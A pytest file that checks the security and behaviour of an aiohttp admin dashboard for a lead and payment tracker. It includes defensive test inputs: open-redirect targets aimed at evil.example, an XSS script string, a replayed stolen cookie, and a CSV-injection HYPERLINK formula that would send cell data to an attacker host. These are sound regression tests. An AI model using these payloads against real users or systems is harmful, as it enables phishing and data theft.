"""The dashboard through aiohttp_client on a real database."""

import asyncio
import csv
import io
import re
from decimal import Decimal

import aiohttp
import pytest

from common import clock
from common.campaigns import CampaignService
from common.config import Settings
from common.days import day_of
from common.events import LeadSentToCrm, PaymentRegistered
from common.leads import LeadService
from common.model import NewLead
from services.dashboard.app import create_app
from tests.helpers import ago, rows, stored

PASSWORD = "s3cret-pass"
API_TOKEN = "api-token-123"
PAGES = [
    "/admin",
    "/admin/leads",
    "/admin/leads.csv",
    "/admin/leads/x",
    "/admin/tasks",
    "/admin/payments",
]
API = ["/api/v1/stats", "/api/v1/leads", "/api/v1/leads/x", "/api/v1/leads/x/events"]
FORMS = ["/logout", "/admin/tasks/1/retry", "/admin/tasks/retry-failed", "/admin/payments/1/attach"]


@pytest.fixture
async def dash(aiohttp_client, db_path):
    settings = Settings(
        database=db_path,
        dashboard={"password": PASSWORD, "api_token": API_TOKEN, "secret_key": "k" * 40},
    )
    return await aiohttp_client(create_app(settings))


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html)[1]


async def log_in(dash, password=PASSWORD):
    token = csrf_of(await (await dash.get("/login")).text())
    form = {"username": "admin", "password": password, "csrf_token": token, "next": "/admin"}
    return await dash.post("/login", data=form, allow_redirects=False)


async def csrf(dash) -> str:
    return csrf_of(await (await dash.get("/admin")).text())


async def seed(store, name="Ivan", campaign="spring", pay: str | None = None) -> str:
    lead = NewLead(campaign_id=campaign, name=name, phone="+79161234567", yclid="1")
    lead_id, _ = await store.write(lambda tx: LeadService.create_lead(tx, lead))
    if pay:
        sent = LeadSentToCrm("amo", crm_lead_id="7")
        paid = PaymentRegistered(Decimal(pay), "RUB", stored(ago(days=1)))
        await store.write(lambda tx: LeadService.record(tx, lead_id, sent))
        await store.write(lambda tx: LeadService.record(tx, lead_id, paid))
    return lead_id


@pytest.mark.parametrize("path", PAGES)
async def test_pages_require_login(dash, path):
    resp = await dash.get(path, allow_redirects=False)
    assert resp.status == 302 and resp.headers["Location"].startswith("/login?next=")


@pytest.mark.parametrize("path", API)
async def test_api_requires_login_or_token(dash, path):
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": API_TOKEN}):
        resp = await dash.get(path, headers=headers)
        assert resp.status == 401
        assert (await resp.json())["error"] == "unauthorized"


@pytest.mark.parametrize("path", FORMS)
async def test_forms_require_login(dash, path):
    resp = await dash.post(path, data={}, allow_redirects=False)
    assert resp.status == 302 and resp.headers["Location"].startswith("/login")


async def test_login_then_pages_open(dash):
    resp = await log_in(dash)
    assert resp.status == 302 and resp.headers["Location"] == "/admin"
    for path in ["/admin", "/admin/leads", "/admin/tasks"]:
        page = await dash.get(path)
        assert page.status == 200, path
        assert page.headers["X-Frame-Options"] == "DENY"
        assert "script-src 'self'" in page.headers["Content-Security-Policy"]
        assert "unsafe-inline" not in page.headers["Content-Security-Policy"]
        assert page.headers["Referrer-Policy"] == "same-origin"


async def test_wrong_password_and_rate_limit(dash):
    resp = await log_in(dash, password="nope")
    assert resp.status == 401
    assert "Неверный логин или пароль" in await resp.text()
    statuses = [(await log_in(dash, password="nope")).status for _ in range(5)]
    assert statuses == [401, 401, 401, 401, 429]
    assert (await log_in(dash)).status == 429  # even the right password waits


@pytest.mark.parametrize(
    "target", ["/\t/evil.example", "/\r/evil.example", "/\n/evil.example", "/\\evil.example"]
)
async def test_login_never_redirects_off_site(dash, target):
    token = csrf_of(await (await dash.get("/login")).text())
    form = {"username": "admin", "password": PASSWORD, "csrf_token": token, "next": target}
    resp = await dash.post("/login", data=form, allow_redirects=False)
    assert resp.status == 302 and resp.headers["Location"] == "/admin"


async def test_logout_revokes_the_session_even_for_a_copied_cookie(dash, aiohttp_client):
    await log_in(dash)
    stolen = {c.key: c.value for c in dash.session.cookie_jar}
    assert (await dash.get("/admin")).status == 200
    token = await csrf(dash)
    assert (
        await dash.post("/logout", data={"csrf_token": token}, allow_redirects=False)
    ).status == 302
    # The cookie as it was before logout, replayed by someone who copied it:
    resp = await dash.get("/admin", cookies=stolen, allow_redirects=False)
    assert resp.status == 302 and resp.headers["Location"].startswith("/login")


async def test_failed_logins_are_counted_per_client_behind_the_proxy(dash):
    """Behind our reverse proxy every peer is 127.0.0.1: the limit keys on the client the
    proxy names in X-Forwarded-For, so one attacker cannot lock the admin out."""

    async def attempt(client: str, password: str):
        token = csrf_of(await (await dash.get("/login")).text())
        form = {"username": "admin", "password": password, "csrf_token": token}
        headers = {"X-Forwarded-For": client}
        return await dash.post("/login", data=form, headers=headers, allow_redirects=False)

    statuses = [(await attempt("203.0.113.9", "nope")).status for _ in range(6)]
    assert statuses[-1] == 429
    assert (await attempt("198.51.100.7", PASSWORD)).status == 302  # the admin still gets in


@pytest.mark.parametrize("token", [None, "forged"])
async def test_csrf_missing_or_wrong_is_403(dash, store, token):
    await seed(store)
    await log_in(dash)
    form = {} if token is None else {"csrf_token": token}
    for path in FORMS + ["/lang", "/admin/leads/x/send-again"]:
        resp = await dash.post(path, data=form, allow_redirects=False)
        assert resp.status == 403, path
        assert "Форма устарела" in await resp.text()  # a page for the person, in Russian
        asked = await dash.post(
            path, data=form, headers={"Accept": "application/json"}, allow_redirects=False
        )
        assert (asked.status, (await asked.json())["error"]) == (403, "csrf")
    assert (await dash.get("/admin")).status == 200  # still logged in
    token = csrf_of(await (await dash.get("/login")).text())
    login = {"username": "admin", "password": PASSWORD, "csrf_token": "x" + token}
    assert (await dash.post("/login", data=login)).status == 403


async def test_admin_numbers_equal_the_database(dash, store):
    for n in range(3):
        await seed(store, campaign="spring", pay="1500.50" if n == 0 else None)
    await seed(store, campaign="autumn", pay="99.99")
    await log_in(dash)
    html = await (await dash.get("/admin")).text()
    total_leads = rows(store.location, "SELECT count(*) AS n FROM leads")[0]["n"]
    assert card(html, "leads") == str(total_leads) == "4"
    assert card(html, "sales") == "2" and card(html, "lead_to_sale") == "50\xa0%"
    spring = re.search(r'data-campaign="spring">(.*?)</tr>', html, re.S)[1]
    assert '"num leads">3<' in spring and '"num payments">1<' in spring
    assert '"num revenue">1\xa0500,50\xa0₽<' in spring
    assert '"num conversion">33,3\xa0%<' in spring
    autumn = re.search(r'data-campaign="autumn">(.*?)</tr>', html, re.S)[1]
    assert '"num revenue">99,99\xa0₽<' in autumn and '"num conversion">100\xa0%<' in autumn
    due = rows(
        store.location,
        "SELECT count(*) AS n FROM tasks WHERE status = 'pending' AND run_after <= ?",
        (stored(clock.now()),),
    )[0]["n"]
    assert f'id="tasks-due">{due}<' in html and due == 4
    assert html.count("<polyline") >= 3  # the charts are drawn


async def test_user_text_is_escaped(dash, store):
    lead_id = await seed(store, name="<script>alert(1)</script>", campaign="<b>x</b>")
    await log_in(dash)
    for path in ["/admin", "/admin/leads", f"/admin/leads/{lead_id}"]:
        html = await (await dash.get(path)).text()
        assert "<script>alert" not in html and "<b>x</b>" not in html, path
        assert "&lt;" in html


async def test_lead_page_shows_timeline_and_agreement(dash, store):
    lead_id = await seed(store, pay="10")
    await log_in(dash)
    html = await (await dash.get(f"/admin/leads/{lead_id}")).text()
    assert html.count("<li><b>") == 3 and "PAYMENT_REGISTERED" in html
    assert 'class="ok" id="agreement"' in html
    assert (await dash.get("/admin/leads/nope")).status == 404


async def test_retry_button_requeues_a_failed_task(dash, store):
    await seed(store)
    [task] = await store.write(lambda tx: tx.tasks.claim_due(limit=1, lease=60))
    await store.write(lambda tx: tx.tasks.fail(task.id, "HTTP 400: bad phone"))
    await log_in(dash)
    page = await (await dash.get("/admin/tasks")).text()
    assert "HTTP 400: bad phone" in page and f'data-task="{task.id}"' in page
    token = csrf_of(page)
    resp = await dash.post(
        f"/admin/tasks/{task.id}/retry", data={"csrf_token": token}, allow_redirects=False
    )
    assert resp.status == 302
    again = await store.read(lambda tx: tx.tasks.get(task.id))
    assert (again.status, again.attempts) == ("pending", 0)


async def test_csv_export_of_the_filtered_set(dash, store):
    ids = [await seed(store, name=f"N{n}", campaign="a" if n % 2 else "b") for n in range(5)]
    await log_in(dash)
    resp = await dash.get("/admin/leads.csv?campaign=a")
    assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
    raw = await resp.read()
    assert raw.startswith(b"\xef\xbb\xbf")  # a UTF-8 BOM: Excel reads Cyrillic right
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert sorted(r["Номер заявки"] for r in table) == sorted(ids[1::2])
    # The phone stays text in Excel (a leading + would make it a formula or a number).
    assert {r["Кампания"] for r in table} == {"a"} and table[0]["Телефон"] == "'+79161234567"


async def test_csv_export_neutralises_formulas(dash, store):
    """OWASP "CSV Injection": a cell starting with = + - @ tab or CR runs in Excel."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
    await seed(store, name=evil)
    await log_in(dash)
    raw = await (await dash.get("/admin/leads.csv")).read()
    [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert row["Имя"] == "'" + evil
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


async def test_leads_list_masks_contacts_and_filters(dash, store):
    await seed(store, campaign="a")
    await log_in(dash)
    html = await (await dash.get("/admin/leads?campaign=a&status=new")).text()
    assert "+79161234567" not in html and "+7********67" in html
    bad = await dash.get("/admin/leads?status=bogus")
    assert bad.status == 422 and "Статус: нужен один из статусов" in await bad.text()
    bad = await dash.get("/admin/leads?date_from=yesterday")
    assert bad.status == 422 and "С даты: нужна дата ГГГГ-ММ-ДД" in await bad.text()


async def test_json_api_with_bearer_token(dash, store):
    lead_id = await seed(store, pay="100")
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    stats = await (await dash.get("/api/v1/stats", headers=auth)).json()
    assert stats["totals"]["leads"] == 1 and stats["totals"]["payments"] == 1
    listed = await (await dash.get("/api/v1/leads?status=paid&limit=5", headers=auth)).json()
    assert [lead["id"] for lead in listed["leads"]] == [lead_id]
    one = await (await dash.get(f"/api/v1/leads/{lead_id}", headers=auth)).json()
    assert one["payment_amount"] == "100"
    events = await (await dash.get(f"/api/v1/leads/{lead_id}/events", headers=auth)).json()
    assert [e["type"] for e in events["events"]] == [
        "LEAD_CREATED",
        "LEAD_SENT_TO_CRM",
        "PAYMENT_REGISTERED",
    ]
    assert (await dash.get("/api/v1/leads/nope", headers=auth)).status == 404
    assert (await dash.get("/api/v1/leads?limit=0", headers=auth)).status == 422


async def test_one_campaign_spelt_in_two_cases_is_one_row(dash, store):
    """`Summer` typed by a person and `summer` from Tilda's lower-cased UTM are counted as one
    campaign, shown under the spelling most of its leads have."""
    await seed(store, campaign="Summer", pay="100")
    await seed(store, name="Olga", campaign="summer", pay="50")
    await seed(store, name="Anna", campaign="summer")
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    stats = await (await dash.get("/api/v1/stats", headers=auth)).json()
    [campaign] = stats["campaigns"]
    assert campaign["campaign_id"] == "summer"
    assert (campaign["leads"], campaign["payments"], campaign["revenue_minor"]) == (3, 2, 15000)
    since = day_of(stored(ago(days=30)), store.zone).isoformat()  # daily_stats' days are the zone's
    daily = await store.read(lambda tx: CampaignService.daily(tx, since))
    assert {row["campaign_id"] for row in daily} == {"summer"}  # the charts' series
    assert sum(row["revenue_minor"] for row in daily) == 15000


async def test_language_switch_is_remembered(dash):
    await log_in(dash)
    html = await (await dash.get("/admin")).text()
    assert "Новые клиенты" in html
    token = csrf_of(html)
    resp = await dash.post("/lang", data={"csrf_token": token, "lang": "en", "next": "/admin"})
    assert resp.status == 200
    assert "New clients" in await resp.text()
    assert "Retry all failed" in await (await dash.get("/admin/tasks")).text()


async def test_lead_page_shows_what_the_lead_was_accepted_without(dash, store):
    lead = NewLead(
        campaign_id="c",
        phone="+79161234567",
        warnings=[{"field": "email", "value": "ivan@", "reason": "not a valid email"}],
    )
    lead_id, _ = await store.write(lambda tx: LeadService.create_lead(tx, lead))
    await log_in(dash)
    html = await (await dash.get(f"/admin/leads/{lead_id}")).text()
    section = re.search(r'id="lead-warnings">(.*?)</section>', html, re.S)[1]
    assert "<b>E-mail</b>: не похоже на адрес e-mail" in section and "ivan@" in section
    assert "not a valid email" not in section  # the parser's English stays out of the card
    assert 'class="ok" id="agreement"' in html  # the replayed row has the warnings too


async def test_a_person_attaches_an_unmatched_payment_to_its_lead(dash, store):
    lead_id = await seed(store)
    other = await seed(store, name="Olga")

    def keep(tx):
        return tx.unmatched.keep("amo", "555", "1200.00", "RUB", stored(ago(days=1)))

    payment_id = await store.write(keep)
    await log_in(dash)
    html = await (await dash.get("/admin/payments")).text()
    row = re.search(rf'data-payment="{payment_id}">(.*?)</tr>', html, re.S)[1]
    assert "1\xa0200\xa0₽" in row and "555" in row

    token = await csrf(dash)
    url = f"/admin/payments/{payment_id}/attach"
    missing = await dash.post(url, data={"csrf_token": token, "lead_id": "nope"})
    assert missing.status == 404 and "Заявка «nope» не найдена" in await missing.text()

    done = await dash.post(url, data={"csrf_token": token, "lead_id": lead_id})
    page = await done.text()
    assert done.status == 200 and f'data-payment="{payment_id}"' not in page
    assert "Оплата 1\xa0200\xa0₽ привязана к заявке «Ivan»" in page  # it says what it did
    [lead] = rows(
        store.location, "SELECT status, payment_amount FROM leads WHERE id = ?", (lead_id,)
    )
    assert (lead["status"], lead["payment_amount"]) == ("paid", "1200.00")
    [task] = rows(store.location, "SELECT * FROM tasks WHERE type = 'send_to_yandex_direct'")
    assert task["lead_id"] == lead_id  # the conversion goes to Metrica like any payment

    twice = await dash.post(url, data={"csrf_token": token, "lead_id": other})
    assert twice.status == 409 and "уже привязана" in await twice.text()
    [paid] = rows(
        store.location, "SELECT count(*) AS n FROM events WHERE type = 'PAYMENT_REGISTERED'"
    )
    assert paid["n"] == 1  # counted once


@pytest.mark.parametrize(
    "query",
    [
        "date_to=9999-12-31",
        "date_from=0001-01-01",
        "offset=100000000000000000000",
        "limit=100000000000000000000",
        "offset=-1",
    ],
)
async def test_extreme_filters_are_answered_not_500(dash, store, query):
    await seed(store)
    await log_in(dash)
    for path in ("/admin/leads", "/admin/leads.csv"):
        resp = await dash.get(f"{path}?{query}")
        assert resp.status in (200, 422), (path, resp.status, await resp.text())
    resp = await dash.get(
        f"/api/v1/leads?{query}", headers={"Authorization": f"Bearer {API_TOKEN}"}
    )
    assert resp.status in (200, 422), await resp.text()
    if resp.status == 422:
        field = (await resp.json())["detail"][0]["field"]
        assert field in ("date_to", "date_from", "limit", "offset")


async def test_a_csv_export_that_fails_midway_is_cut_not_patched(dash, store):
    """After the 200 and some rows, a failure must not append an error answer to the body
    (a second HTTP response in the chunked stream): the download is cut, visibly."""

    def many(tx):
        for n in range(1001):
            LeadService.create_lead(tx, NewLead(campaign_id="a", phone=f"+7916{n:07d}"))
        # The oldest lead, read in the second batch, has a broken row (as a bad disk would):
        # its warnings, which only the rows' pass reads (the answers' keys are read first).
        tx.sql.run(
            "UPDATE leads SET warnings = '{', created_at = '2001-01-01T00:00:00.000000Z'"
            " WHERE id = (SELECT id FROM leads ORDER BY created_at LIMIT 1)"
        )

    await store.write(many)
    await log_in(dash)
    resp = await dash.get("/admin/leads.csv")
    assert resp.status == 200
    with pytest.raises(aiohttp.ClientPayloadError):  # not a hang, not a complete-looking file
        await asyncio.wait_for(resp.read(), 10)


def card(html: str, key: str) -> str:
    """A headline card's value on the overview."""
    found = re.search(rf'data-card="{key}">.*?<b class="value">(.*?)</b>', html, re.S)
    assert found, key
    return found[1]
